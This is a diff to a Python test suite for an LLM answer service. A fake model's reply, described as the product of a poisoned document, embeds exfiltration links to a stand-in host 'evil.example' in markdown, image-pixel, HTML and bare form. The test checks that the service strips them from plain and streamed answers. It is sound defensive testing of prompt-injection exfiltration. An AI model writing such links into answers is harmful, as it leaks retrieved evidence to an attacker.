@@ -39,6 +39,8 @@ class FakeLlm:
     reply: Callable[[dict[int, str]], str] = lambda blocks: "I don't know."
     status: int = 200
     delay_s: float = 0.0
+    # How the reply is cut into stream chunks: by words unless given.
+    split: Callable[[str], list[str]] | None = None
     requests: list[dict[str, Any]] = field(default_factory=list)
 
     async def __call__(self, request: httpx2.Request) -> httpx2.Response:
@@ -49,7 +51,7 @@ class FakeLlm:
         if self.status != 200:
             return httpx2.Response(self.status, json={"error": {"message": "overloaded"}})
         text = self.reply(blocks_of(body))
-        words = re.findall(r"\S+\s*", text)
+        words = self.split(text) if self.split else re.findall(r"\S+\s*", text)
         events = [_chunk(body["model"], {"role": "assistant", "content": ""})]
         events += [_chunk(body["model"], {"content": w}) for w in words]
         events.append(_chunk(body["model"], {}, finish="stop"))
@@ -305,3 +307,36 @@ def test_stream_errors_before_the_answer_keep_their_status(
         response = c.post("/answer", json=body, headers=bearer(make_token()))
     assert response.status_code == 503
     assert response.json()["code"] == "lanes_unavailable"
+
+
+def test_links_the_model_writes_lose_targets_that_are_not_the_evidence(
+    llm_app: Callable[..., TestClient], make_token: TokenFactory
+) -> None:
+    """A poisoned document talks the model into links that would carry evidence away when
+    the answer is rendered; streamed or not, no such URL reaches the client."""
+    evil = "https://evil.example/c?d=RPL-14-and-more"
+
+    def reply(blocks: dict[int, str]) -> str:
+        n = next(n for n, text in blocks.items() if "RPL-14" in text)
+        return (
+            f"Refunds are paid within 5 days [{n}]. Details: [the policy]({evil}) "
+            f'![pixel]({evil}) <{evil}> <a href="{evil}">here</a> {evil} done.'
+        )
+
+    def in_threes(text: str) -> list[str]:  # URLs split mid-way across stream chunks
+        return [text[i : i + 3] for i in range(0, len(text), 3)]
+
+    client = llm_app(FakeLlm(reply, split=in_threes))
+    payload = ask(client, make_token(**ALICE))
+    assert "evil.example" not in json.dumps(payload)
+    assert payload["answer"].startswith("Refunds are paid within 5 days [1]. Details: the policy")
+    streamed = client.post(
+        "/answer", json={"query": QUESTION, "stream": True}, headers=bearer(make_token(**ALICE))
+    )
+    assert streamed.status_code == 200 and "evil.example" not in streamed.text
+    tokens = [
+        json.loads(line[len("data: ") :])["text"]
+        for line in streamed.text.splitlines()
+        if line.startswith("data: ") and '"text"' in line and '"answer"' not in line
+    ]
+    assert "".join(tokens).startswith("Refunds are paid within 5 days")
